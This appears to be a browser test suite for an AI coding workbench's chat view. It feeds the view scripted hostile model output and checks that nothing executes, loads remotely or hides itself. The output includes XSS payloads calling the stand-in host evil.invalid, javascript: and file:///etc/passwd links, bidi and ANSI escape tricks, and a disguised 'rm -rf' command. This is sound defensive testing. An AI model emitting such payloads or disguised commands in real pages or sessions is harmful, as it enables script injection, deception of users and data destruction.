import assert from "node:assert/strict";
import { runs, says } from "../model";
import { commandsIn } from "../processes";
import { scene } from "../scenario";

const EVIL = "evil.invalid";

const TEXT = [
  `<script>window.top.document.title = "owned"; fetch("https://${EVIL}/script")</script>`,
  `<img src="https://${EVIL}/image.png" onerror="window.top.document.title = 'owned'">`,
  `<iframe src="https://${EVIL}/frame"></iframe><link rel="stylesheet" href="https://${EVIL}/style.css">`,
  `![picture](https://${EVIL}/markdown.png) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[press me](javascript:alert(document.domain)) [or me](vbscript:x) [or this](command:workbench.action.closeWindow)`,
  `[data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)`,
  `<svg onload="alert(1)"><style>* { display: none; background: url(https://${EVIL}/css) }</style></svg>`,
  "access \u202Egnirts a ton si siht\u202C \u2066and\u2069 zero\u200Bwidth \u001b[31mred\u001b[0m \u001b]8;;https://evil.invalid/osc\u0007link\u001b]8;;\u0007 bell\u0007",
  "```html\n<script>alert('in code')</script>\n```",
  "```evil\"onmouseover=\"alert(1)\n</code></pre><script>alert(2)</script>\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
];

/** One word of some 300,000 letters, in which nothing comes twice: that would be taken for a loop. */
const LONG = Array.from({ length: 80_000 }, (_, place) => place.toString(36)).join("");

const HOSTILE = {
  asks: "say whatever you like",
  files: { "hostile/quiet.txt": "quiet\n" },
  replies: [
    {
      steps: [
        { thought: `**<img src=https://${EVIL}/thought onerror=alert(1)>**\n<script>alert(3)</script>` },
        ...TEXT.map((text) => ({ text: `${text}\n\n` })),
        { text: `${LONG}\n\n` },
        { repeat: { times: 2_000, steps: [{ text: "{n}, " }] } },
        { text: "\n\nThe end of it." },
        { finish: { reason: "STOP" } },
      ],
    },
  ],
};

scene("whatever a model says, nothing of it runs and nothing leaves the machine", HOSTILE, async (workbench) => {
  const { page } = workbench;
  const chat = workbench.chat();
  const rows = chat.locator(".rows");
  const title = await page.title();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await workbench.openChat();
  const frames = page.frames().length;
  await workbench.ask(HOSTILE.asks);
  await rows.getByText("The end of it.").waitFor();
  await workbench.quietChat();
  await workbench.picture("hostile-end");

  // All of it is looked at, because only what is seen is on the page.
  const scroller = chat.locator(".scroller");
  await scroller.press("Control+Home");
  await rows.getByText("press me").waitFor();
  await workbench.picture("hostile");
  assert.equal(await rows.locator("script, iframe, object, embed, svg, link, style, form").count(), 0);
  assert.equal(await rows.locator("img").count(), 0, "no picture from anywhere");
  const links = await rows.locator("a").evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
  assert.deepEqual(links.filter((link) => /^(javascript|vbscript|command|data|file):/i.test(link)), []);
  const handlers = await rows.locator("*").evaluateAll((all) => all.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith("on")));
  assert.deepEqual(handlers, []);
  const seen = await rows.innerText();
  assert.doesNotMatch(seen, /[\u202a-\u202e\u2066-\u2069\u200b\u001b\u0007]/, "what steers the eye is made visible");
  for (const name of ["press me", "or me", "or this"]) await rows.getByText(name, { exact: false }).first().click();

  await workbench.composer.fill("the field still takes words");
  assert.equal(await workbench.composer.inputValue(), "the field still takes words");
  await workbench.composer.fill("");
  assert.deepEqual(dialogs, []);
  assert.equal(page.frames().length, frames, "no frame was added");
  assert.equal(await page.title(), title);
  assert.deepEqual(workbench.strayRequests, []);

  // That nothing was seen means something only if it would have been.
  assert.deepEqual(workbench.errors, []);
  await page.evaluate((address) => {
    new Image().src = address;
  }, `https://${EVIL}/control`);
  await workbench.until(() => workbench.strayRequests.length > 0, "the fence has not noticed a request");
  assert.deepEqual(workbench.strayRequests.splice(0), [`https://${EVIL}/control`]);
  await workbench.until(() => workbench.errors.length > 0, "the console has not noticed it either");
  assert.deepEqual(workbench.errors.splice(0), [`Failed to load resource: net::ERR_FAILED https://${EVIL}/control`]);
});

const COMMAND = {
  asks: "run something that looks harmless",
  files: {},
  replies: [runs(`echo \u202Eharmless\u202C \u001b[2K <img src=https://${EVIL}/card onerror=alert(1)> ; rm -rf hostile`), says("Not run.")],
};

scene("a command that hides what it does is shown as what it is", COMMAND, async (workbench) => {
  const chat = workbench.chat();
  await workbench.openChat();
  await workbench.ask(COMMAND.asks);
  const question = chat.locator(".question[data-armed=true]", { hasText: "rm -rf hostile" });
  await question.waitFor();
  await workbench.picture("hostile-command");
  const shown = await question.innerText();
  assert.doesNotMatch(shown, /[\u202a-\u202e\u001b]/);
  assert.match(shown, /<img src=/, "as text");
  assert.equal(await question.locator("img").count(), 0);
  await question.press("Escape");
  await chat.getByPlaceholder("Say why").press("Enter");
  await chat.locator(".rows").getByText(/Rejected: echo/).waitFor();
  assert.equal(workbench.text("hostile/quiet.txt"), "quiet\n");
});

const ENDLESS = {
  asks: "print the same word for ever",
  files: {},
  replies: [runs("perl -e 'print qq($ARGV[0]\\n) while 1' pollux-endless"), says("It was stopped.")],
};

scene("a command that never stops printing is stopped by Escape, and the window stays alive meanwhile", ENDLESS, async (workbench) => {
  const chat = workbench.chat();
  const runsStill = (): boolean => commandsIn(workbench.folder, "pollux-endless").length > 0;
  await workbench.openChat();
  await workbench.ask(ENDLESS.asks);
  const question = chat.locator(".question[data-armed=true]", { hasText: "pollux-endless" });
  await question.waitFor();
  await question.press("Enter");
  await chat.locator(".tool.running .live", { hasText: "pollux-endless" }).waitFor();
  assert.ok(runsStill());
  const frames = await workbench.watchFrames();
  await workbench.composer.fill("");
  await workbench.composer.pressSequentially("the field still takes words");
  assert.equal(await workbench.composer.inputValue(), "the field still takes words");
  assert.ok((await chat.locator(".rows").innerText()).length < 20_000, "only the last lines are on the page");
  await workbench.picture("hostile-endless");
  const longest = await frames();
  assert.ok(longest < 1_000, `the window stood still for ${Math.round(longest)} ms`);
  await workbench.composer.fill("");
  await workbench.composer.press("Escape");
  await workbench.quietChat();
  await chat.locator(".rows").getByText("Stopped", { exact: true }).waitFor();
  await workbench.until(() => !runsStill(), "the command runs on");
  await workbench.picture("hostile-endless-stopped");
});
